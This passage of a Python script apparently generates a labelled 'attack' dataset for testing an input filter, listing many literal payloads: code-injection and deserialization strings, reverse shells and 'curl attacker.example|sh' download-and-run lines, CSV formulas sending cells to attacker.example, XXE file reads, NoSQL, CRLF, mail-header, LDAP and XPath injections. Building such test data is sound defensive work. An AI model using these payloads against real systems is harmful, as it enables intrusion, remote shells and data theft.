    ("log4shell", "${j${k8s:k5:-ND}i:ldaps://attacker.example/b}"),
    ("php-eval", "<?php system($_GET['cmd']); ?>"),
    ("php-eval", "<?=`$_POST[x]`?>"),
    ("php-eval", "phpinfo();//"),
    ("php-eval", "';assert($_REQUEST['a']);//"),
    ("php-eval", "${@eval(base64_decode($_COOKIE['z']))}"),
    ("python-eval", "__import__('os').system('curl attacker.example|sh')"),
    ("python-eval", "exec(\"import socket,subprocess;s=socket.create_connection(('203.0.113.40',9));subprocess.call(['/bin/sh'],stdin=s.fileno(),stdout=s.fileno())\")"),
    ("python-eval", "().__class__.__bases__[0].__subclasses__()[104].__init__.__globals__['sys'].modules['os'].popen('id').read()"),
    ("python-eval", "eval(compile('import os;os.remove(\"/app/db.sqlite\")','x','exec'))"),
    ("node-eval", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("node-eval", "process.mainModule.require('child_process').exec('nc 198.51.100.9 4444 -e sh')"),
    ("node-eval", "');require('fs').writeFileSync('/tmp/x','pwn');//"),
    ("node-eval", "this.constructor.constructor('return process')().exit()"),
    ("ruby-eval", "#{`id`}"),
    ("ruby-eval", "Kernel.exec('curl attacker.example/r | sh')"),
    ("prototype-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("prototype-pollution", "{\"constructor\":{\"prototype\":{\"role\":\"committee\"}}}"),
    ("prototype-pollution", "__proto__[outputFunctionName]=_tmp1;global.process.mainModule.require('child_process').execSync('id');var __tmp2"),
    ("prototype-pollution", "{\"tune\":\"Oban\",\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}"),
    ("prototype-pollution", "constructor[prototype][sourceURL]=\\u000areturn process.mainModule.require('child_process').execSync('id')"),
    ("csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click for tune list\")"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-formula", "-2+3+cmd|' /C notepad'!'B1'"),
    ("csv-formula", "@SUM(1,1)*cmd|'/c mshta http://203.0.113.3/x.hta'!A1"),
    ("csv-formula", "=IMPORTXML(CONCAT(\"https://attacker.example/?x=\",A1:C20),\"//a\")"),
    ("csv-formula", "Rory;kilt;36;=WEBSERVICE(\"http://attacker.example/l?\"&D2)"),
    ("csv-formula", "\t=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE tune [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><tune><title>&x;</title></tune>"),
    ("xxe", "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/ev.dtd\"> %d;]><r/>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE score [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><score-partwise><work><work-title>&m;</work-title></work></score-partwise>"),
    ("xxe", "<!DOCTYPE x [<!ENTITY a \"aaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><x>&d;&d;&d;&d;</x>"),
    ("xxe", "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE s [<!ENTITY f SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/.env\">]><text>&f;</text></svg>"),
    ("xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>"),
    ("deserialization", "O:8:\"Reedlist\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5dAASTGphdmEvbGFuZy9TdHJpbmc7"),
    ("deserialization", "gASVIwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAhpZCA+IC90bXCUhZRSlC4="),
    ("deserialization", "!!python/object/apply:os.system ['curl attacker.example/y|sh']"),
    ("deserialization", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("deserialization", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}"),
    ("deserialization", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n      socket: &1 !ruby/object:Gem::RequestSet\n        sets: !ruby/object:Net::WriteAdapter\n          socket: !ruby/module 'Kernel'\n          method_id: :system\n        git_set: curl attacker.example|sh\n      method_id: :resolve"),
    ("deserialization", "a:1:{i:0;O:23:\"GuzzleHttp\\Cookie\\FileCookieJar\":1:{s:36:\"\\u0000GuzzleHttp\\Cookie\\FileCookieJar\\u0000filename\";s:22:\"/var/www/html/pb.php\";}}"),
]

NOSQLI = [
    ("operator", "{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}"),
    ("operator", "{\"email\": \"pm@pipes.example.org\", \"password\": {\"$gt\": \"\"}}"),
    ("operator", "username[$ne]=x&password[$ne]=x"),
    ("operator", "password[$regex]=^a.*&username=treasurer"),
    ("operator", "{\"role\": {\"$in\": [\"admin\", \"committee\"]}}"),
    ("operator", "{\"$or\": [{\"grade\": \"4B\"}, {\"_id\": {\"$exists\": true}}]}"),
    ("operator", "{\"tune\": {\"$regex\": \".*\", \"$options\": \"si\"}}"),
    ("operator", "login[$nin][]=nobody&pass[$gt]="),
    ("operator", "{\"member_id\": {\"$gte\": 0}}"),
    ("operator", "{\"password\": {\"$regex\": \"^p[a-m]\"}, \"username\": \"pm\"}"),
    ("where-js", "{\"$where\": \"this.password.length > 0 && sleep(5000)\"}"),
    ("where-js", "'; return this.role == 'admin' || '1'=='1"),
    ("where-js", "Oban' || this.constructor.constructor('return process')().exit() || '"),
    ("where-js", "{\"$where\": \"function(){ return obj.email.match(/^a/) != null }\"}"),
    ("where-js", "x'; while(true){}; var y='"),
    ("where-js", "0;return true"),
    ("aggregation", "[{\"$lookup\": {\"from\": \"members\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"leak\"}}]"),
    ("aggregation", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(3000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregation", "[{\"$out\": \"members\"}]"),
    ("couchdb", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"password_hash\", \"email\"]}"),
    ("couchdb", "{\"selector\": {\"password\": {\"$regex\": \"^.\"}}}"),
    ("elastic", "{\"query\": {\"script\": {\"script\": \"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}}"),
    ("elastic", "tune:* OR _exists_:password"),
    ("redis", "SET x 1\r\nCONFIG SET dir /var/www/html\r\nSAVE\r\n"),
    ("operator", "search[title][$regex]=^&search[title][$options]=i"),
    ("type-confusion", "{\"token\": {\"$type\": 2}}"),
    ("type-confusion", "{\"reset_code\": {\"$exists\": true, \"$ne\": \"\"}}"),
]

CRLF = [
    ("log-forging", "Practiced 30 min\n2024-05-01 12:00:01 INFO user=admin action=login result=SUCCESS"),
    ("log-forging", "reed ok\r\n[AUDIT] treasurer approved refund £2,000 to acct 99887766"),
    ("log-forging", "Oban%0d%0a127.0.0.1 - admin [01/May/2024:10:00:00] \"GET /admin HTTP/1.1\" 200"),
    ("log-forging", "jig\n\n=== LOG ROTATED — previous entries deleted by PM ==="),
    ("log-forging", "air%E2%80%A8ERROR db connection lost; switching to backup at 203.0.113.9"),
    ("log-forging", "notes%0aWARN session=abc123 role escalated to committee"),
    ("header-injection", "en-GB\r\nSet-Cookie: session=attacker; Path=/; Domain=.pipes.example.org"),
    ("header-injection", "/tunes%0d%0aLocation:%20https://attacker.example/login"),
    ("header-injection", "tune.pdf\r\nContent-Disposition: attachment; filename=update.exe"),
    ("header-injection", "x%0D%0AX-Forwarded-For:%20127.0.0.1"),
    ("header-injection", "grade4\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("header-injection", "%E5%98%8A%E5%98%8DSet-Cookie:%20pb=1"),
    ("header-injection", "utf-8\rRefresh: 0; url=https://attacker.example/"),
    ("response-splitting", "medley%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("response-splitting", "oban\r\n\r\n<html><body>Portal moved: <a href=https://attacker.example>login here</a></body></html>"),
    ("response-splitting", "r\r\nContent-Type: text/html\r\n\r\n<svg onload=alert(2)>"),
    ("mail-header", "pm@pipes.example.org\r\nBcc: list@attacker.example"),
    ("mail-header", "Cowal results\nCc: everyone@attacker.example\nX-Mailer: band"),
    ("mail-header", "Ailsa Grant <ailsa@pipes.example.org>%0ABcc:%20harvest@attacker.example"),
    ("mail-header", "Subject line\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/reset>Reset your portal password</a>"),
    ("mail-header", "sec@pipes.example.org\nReply-To: treasurer@attacker.example"),
    ("mail-header", "\"Piper\" <p@pipes.example.org>\r\nTo: victim1@example.com, victim2@example.com"),
    ("mail-header", "newsletter%0d%0aBcc%3a%20a%40attacker.example%2cb%40attacker.example"),
    ("csv-row", "kilt\n\"Hamish\",\"admin\",\"=HYPERLINK(\"\"https://attacker.example\"\")\""),
    ("csv-row", "2 x hose\r\nEve;treasurer;approved;£0.00"),
    ("csv-row", "Rory;kilt;36;1\nMallory;feather bonnet;XL;999;paid"),
    ("csv-row", "note\",\"role\":\"admin\r\n"),
    ("smtp-injection", "x@pipes.example.org>\r\nDATA\r\nSubject: urgent\r\n\r\nPay the coach deposit to 12-34-56 99887766\r\n.\r\nQUIT"),
    ("redis-protocol", "tunes\r\nFLUSHALL\r\n"),
    ("header-injection", "en%0aX-Original-URL: /admin/members"),
]

LDAP_XPATH = [
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "pm)(|(objectClass=*)"),
    ("ldap", "admin*)((|userPassword=*)"),
    ("ldap", "*)(memberOf=cn=committee,ou=groups,dc=pipes,dc=example,dc=org))(&(uid=x"),
    ("ldap", "x)(&)"),
    ("ldap", "treasurer)(userPassword=a*"),
    ("ldap", "*))%00"),
    ("ldap", "Calum*)(|(mail=*@*)"),
    ("ldap", "\\2a)(uid=\\2a"),
    ("ldap", "*)(description=*secret*)(cn=*"),
    ("xpath", "' or 'pb'='pb"),
    ("xpath", "x' or name()='username' or 'x'='y"),
    ("xpath", "Oban'] | //member/password | //tune['"),
    ("xpath", "' or count(/members/member)>0 or '"),
    ("xpath", "1' and substring(//member[1]/password,1,1)='p"),
    ("xpath", "')] | //* | //*[('"),
    ("xpath", "reel' or string-length(name(/*[1]))=7 and ''='"),
    ("xpath", "\"] | //user[role=\"admin\"]/pass | //x[\""),
    ("xpath", "jig' and doc('http://attacker.example/'||//member[1]/email) or '"),
    ("xpath", "x' or contains(//member[@role='treasurer']/iban,'GB') or 'a'='b"),
]


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    rng = random.Random(SEED)
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    bpath = os.path.join(here, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])

    rows = []
    seen = set()
    counts = {}

    def add(cat, cls, v, literal):
        if v in seen or v in benign:
            raise SystemExit("duplicate or benign-equal value: %r" % v)
        if not (1 <= len(v) <= 2000):
            raise SystemExit("bad length: %r" % v)
        seen.add(v)
        rows.append((cat, cls, v))
        c = counts.setdefault(cat, [0, 0])
        c[0] += 1
        c[1] += 1 if literal else 0

    def joined(cat, prefixes, pool, n, cls):
        pairs = [(p, q) for p in prefixes for q in pool]
        rng.shuffle(pairs)
        for p, q in pairs[:n]:
            add(cat, cls, p + q, False)

    for cls, v in SQLI:
        add("sqli", cls, v, True)
    joined("sqli", SQLI_PREFIX, SQLI_POOL, 4, "mixed+prefix")
    for v in SQLI_URLENC:
        add("sqli", "mixed+urlencode", pct_all(v), False)
    for cls, v in XSS:
        add("xss", cls, v, True)
    joined("xss", XSS_PREFIX, XSS_POOL, 80 - len(XSS), "mixed+prefix")
    for cls, v in CMDI:
        add("cmdi", cls, v, True)
    for cls, v in TRAVERSAL:
        add("traversal", cls, v, True)
    for v in TRAVERSAL_URLENC:
        add("traversal", "dotdot+urlencode", pct_all(v), False)
    for cls, v in SSRF:
        add("ssrf", cls, v, True)
    for cls, v in CODE:
        add("code", cls, v, True)
    for cls, v in NOSQLI:
        add("nosqli", cls, v, True)
    for cls, v in CRLF:
        add("crlf", cls, v, True)
    for cls, v in LDAP_XPATH:
        add("ldap-xpath", cls, v, True)

    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": "hamf-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    return counts


if __name__ == "__main__":
    for k, (n, lit) in main().items():
        print(k, n, lit)
